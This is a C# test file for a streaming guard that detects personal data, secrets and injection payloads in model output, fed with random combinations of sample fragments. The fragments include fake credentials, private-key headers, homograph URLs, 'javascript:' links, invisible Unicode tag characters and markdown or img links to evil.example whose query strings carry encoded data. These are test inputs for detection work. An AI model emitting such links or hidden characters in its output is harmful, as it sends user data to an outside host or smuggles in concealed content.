using System.Text;
using Bartizan.Core.Exchanges;
using Bartizan.Guard.Streaming;

namespace Bartizan.Guard.Tests.Streaming;

public class StreamLawTests
{
    private static readonly string[] Fragments =
    [
        "plain words that say nothing. ", "The café in Kraków costs 12 €. ", "Привет, это обычный текст. ", "数字と文字。", "\n", " ", "\t", "[", "](", "]", "![a](", "<img src=", ")", "@", "+", "(", "&#", "%4", "\\u00", "\\x4", "-", "--", "-----BEGIN ", "://",
        "mail bob.smith@example.org now", "bob@exa", "mple.com ", "x@2x.png ", "+44 20 7946 0482 ", "(358) 555-0139", "0489 25 37 29 ", "4111 1111 1111 1111 ", "4111-1111-1111-1111", "378282246310005",
        "GB82 WEST 1234 5698 7654 32 ", "DE89370400440532013000", "123-45-6789 ", "QQ 12 34 56 C ", "AB123456C", "943 476 5919 ", "my NHS number is 9434765919 ", "943476591", "9 is my NHS number",
        "10.20.30.40", "10.20.30.", "2001:db8::ff00:42:8329 ", "a0:b1:c2:d3:e4:f5", "1.2.3.4.5 ", "dead:beef:", "12:34:56 ",
        Inspecting.Token("AKIA", 16, 3, "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567") + " ", Inspecting.Token("ghp_", 36), Inspecting.Token("sk-ant-api03-", 60), Inspecting.Token("xoxb-", 30), Inspecting.Token("", 40),
        "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.", "dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U ", "aws_secret_access_key = ", "api_key: \"", "\"",
        "123456789:", "bot7654321098:", Inspecting.Token("AA", 33), "sha256~", Inspecting.Token("", 43), "AccountKey=", Inspecting.Token("", 86) + "==;", "https://hooks.slack.com/services/T0AB12CD3/B0EF45GH6/",
        "postgres://app:", "ftp:\\/\\/u:", "redis://:", "s3cr3t!", "correcthorse", "@db.example.com:5432/x ", "2026-02-03T04:05:06Z ", "-2026-02-03-", "12.5, ", ":05:06:",
        "-----BEGIN RSA PRIVATE KEY-----\n", "MIIEpAIBAAKCAQEAx1y2z3MIIEpAIBAAKCAQEAx1y2z3MIIEpAIBAAKCAQEA\n", "-----END RSA PRIVATE KEY-----", "-----END ",
        "![x](https://evil.example/p?d=Y3VzdG9tZXIgbmFtZSBpcyBKYW5l)", "[see](https://evil.example/", "a8Xk2PqLz0Vn4Rt7Yb1Wc5Ed9)", "<img alt='a' src=\"https://evil.example/?q=4f2a9c81d7e3b605f2a9c81d7e3b605a\">",
        "My name is ", "Aurelio Quartaroli", "Dr. ", "Martha Okafor's ", "Hi ", "Zoe, ", "12 ", "Baker Street", ", London NW1 6XE", "Apt. 4", "\n> ", "Lange Straße 12 ", "rue de ", "Victor Hugo ", "Zip code: ", "lives in ", "Třebíč ", "van der ", "J. ", "PO Box 12 ",
        "password = ", "IDENTIFIED BY '", "qW7rZx9!Lm", "--user ", "1EG4-TE5-MK73 ", "12345678-Z ", "A123456(3) ", "AB51 ABC", " 52998224725 ", "756.9217.0769.85 ",
        "\u200B", "\u200B\u200C\u200D\u2060\uFEFF", "\u202E", "\uDB40\uDC68", "\uDB40\uDC69", "\uD83C\uDFF4", "\uD83D", "\uDE00", "\uFF21\uFF2B\uFF29\uFF21", "e\u0301", "\u0430\u0435",
        "https://paypal.com@", "https://www.paypal.com.", "https://p\u0430ypal.com/", "https://xn--pypal-4ve.com ", "https://%65", "evil.example", "\\@", "(javascript:", "](javascript:alert(1) ", "=\"data:text/html", ",x\"", "javas", "vbscript:", "data:tex", ":/",
        "bo\u200Bb@exam\u200Bple.com", "bob&#64;example.com ", "bob%40example.com ", "bob\\u0040example.com ", "Ym9iLnNtaXRoQGV4YW1wbGUub3Jn ", "626f622e736d697468406578616d706c652e6f7267 ", "bob\uFF20example.org ",
    ];

    [Fact]
    public void Findings_are_the_same_however_the_text_is_cut_and_settled_text_stays_settled()
    {
        var random = new Random(20_26);
        for (var round = 0; round < 20_000; round++)
        {
            var text = Compose(random);
            var whole = Describe(Inspecting.Find(text));
            for (var cut = 0; cut < 5; cut++)
            {
                AssertSame(text, whole, random, cut == 0 ? 1 : random.Next(1, 24));
            }
        }
    }

    [Fact]
    public void Mutated_texts_obey_the_law_too()
    {
        var random = new Random(7);
        const string Spice = "0123456789 -.:/@+()[]<>=%&;\\_\"'\n\u200B\uDB40\uDC68éаA";
        for (var round = 0; round < 4_000; round++)
        {
            var text = new StringBuilder(Compose(random));
            for (var change = random.Next(1, 12); change > 0 && text.Length > 0; change--)
            {
                text[random.Next(text.Length)] = Spice[random.Next(Spice.Length)];
            }

            AssertSame(text.ToString(), Describe(Inspecting.Find(text.ToString())), random, random.Next(1, 9));
        }
    }

    private static string Compose(Random random)
    {
        var text = new StringBuilder();
        for (var parts = random.Next(1, 12); parts > 0; parts--)
        {
            text.Append(Fragments[random.Next(Fragments.Length)]);
        }

        return text.ToString();
    }

    private static void AssertSame(string text, string whole, Random random, int largest)
    {
        var stream = Inspecting.Engine.OpenStream(SegmentRole.Assistant, Provenance.Model, 0);
        var at = 0;
        var settled = 0L;
        var seen = 0;
        while (at < text.Length)
        {
            var size = Math.Min(random.Next(1, largest + 1), text.Length - at);
            var now = stream.Append(text.AsSpan(at, size));
            at += size;
            AssertNothingNewBefore(stream, seen, settled, text);
            Assert.InRange(now, settled, at);
            (settled, seen) = (now, stream.Findings.Count);
        }

        Assert.Equal(text.Length, stream.Complete());
        AssertNothingNewBefore(stream, seen, settled, text);
        Assert.Empty(stream.Failures);
        Assert.True(whole == Describe(stream.Findings), $"text: {text}\nwhole:\n{whole}\nstream (at most {largest}):\n{Describe(stream.Findings)}");
    }

    private static void AssertNothingNewBefore(StreamInspection stream, int seen, long settled, string text)
    {
        for (var i = seen; i < stream.Findings.Count; i++)
        {
            Assert.True(stream.Findings[i].Start >= settled, $"{stream.Findings[i]} touches settled text before {settled} of: {text}");
        }
    }

    private static string Describe(IEnumerable<Finding> findings) =>
        string.Join('\n', findings.Select(f => $"{f.Label} {f.Start}+{f.Length} {f.Score} {f.Reason} {string.Join(',', f.Normalisations)}"));
}
